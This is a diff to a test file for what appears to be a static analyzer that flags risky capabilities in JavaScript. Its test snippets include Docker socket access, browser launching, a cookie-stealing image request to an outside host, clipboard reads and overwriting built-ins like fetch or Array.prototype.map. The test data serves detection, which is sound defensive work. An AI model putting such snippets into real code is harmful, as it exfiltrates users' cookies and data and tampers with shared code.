@@ -144,6 +144,49 @@ test.for([
 })
 
 test.for([
+  [`require('net').connect('/var/run/docker.sock')`, ['network /var/run/docker.sock', 'starts-programs docker']],
+  [
+    `import http from 'http'; http.request({ socketPath: '/run/podman/podman.sock', path: '/containers/create' })`,
+    ['network /run/podman/podman.sock', 'starts-programs docker'],
+  ],
+  [`new Docker({ socketPath: '/var/run/docker.sock' })`, ['starts-programs docker']],
+  [`import Docker from 'dockerode'; new Docker().createContainer({})`, ['starts-programs ?']],
+  [`import puppeteer from 'puppeteer-core'; await puppeteer.launch({ args })`, ['starts-programs puppeteer-core']],
+  [`import { chromium } from 'playwright'; chromium.launch()`, ['starts-programs playwright']],
+  [`import { PUPPETEER_REVISIONS } from 'puppeteer'; use(PUPPETEER_REVISIONS)`, []],
+  [`import { simpleGit } from 'simple-git'; simpleGit().clone(u)`, ['starts-programs ?']],
+  [`import { Client } from 'ssh2'; new Client().connect({ host: 'a.dev' })`, ['network ?']],
+] as const)('sees what starts or reaches programs by other ways than Node’s own: %s', ([code, expected]) => {
+  expect(seen(code)).toEqual(expected)
+})
+
+test.for([
+  [`new Image().src = 'https://a.dev/x?' + document.cookie`, ['network a.dev', 'reads-page cookies']],
+  [`const i = document.createElement('img'); i.src = u`, ['network ?']],
+  [`const f = document.createElement('iframe'); f.setAttribute('src', 'https://a.dev')`, ['network a.dev']],
+  [`const form = document.createElement('form'); form.action = 'https://a.dev/x'; form.submit()`, ['network a.dev']],
+  [`window.open('https://a.dev/' + x); new RTCPeerConnection(y)`, ['network a.dev', 'network ?']],
+  [`navigator.clipboard.readText().then(send)`, ['reads-page clipboard']],
+  [`element.setAttribute('onclick', x)`, ['runs-text ?']],
+  [`const a = document.createElement('a'); a.href = 'https://a.dev'; const i = new Image(); i.src = '/logo.png'`, []],
+] as const)('sees what a page half sends and reads without a request of its own: %s', ([code, expected]) => {
+  expect(seen(code)).toEqual(expected)
+})
+
+test.for([
+  [`Array.prototype.map = f`, ['changes-others Array.prototype.map']],
+  [`const p = String.prototype; p.split = f`, ['changes-others String.prototype.split']],
+  [`Object.defineProperty(Function.prototype, 'call', { value: f })`, ['changes-others Function.prototype.call']],
+  [`window.fetch = f; JSON.parse = f`, ['changes-others fetch', 'changes-others JSON.parse']],
+  [`require('fs').readFile = f`, ['changes-others fs.readFile']],
+  [`Object.assign(globalThis, { fetch: f, mine: 1 })`, ['changes-others fetch']],
+  [`Object.assign(globalThis, x)`, ['changes-others globalThis']],
+  [`Array.prototype.map.call(x, f); Mine.prototype.map = f; const { fetch = f } = x`, []],
+] as const)('sees what is replaced that other code uses: %s', ([code, expected]) => {
+  expect(seen(code)).toEqual(expected)
+})
+
+test.for([
   [`ctx.get('credentials')?.read()`, ['service credentials']],
   [`ctx.get(name); ctx.get('tools'); map.get('a'); headers.get('Referrer')`, []],
   [`ctx.on('approval/request', () => 'allowed-once')`, ['service approval']],
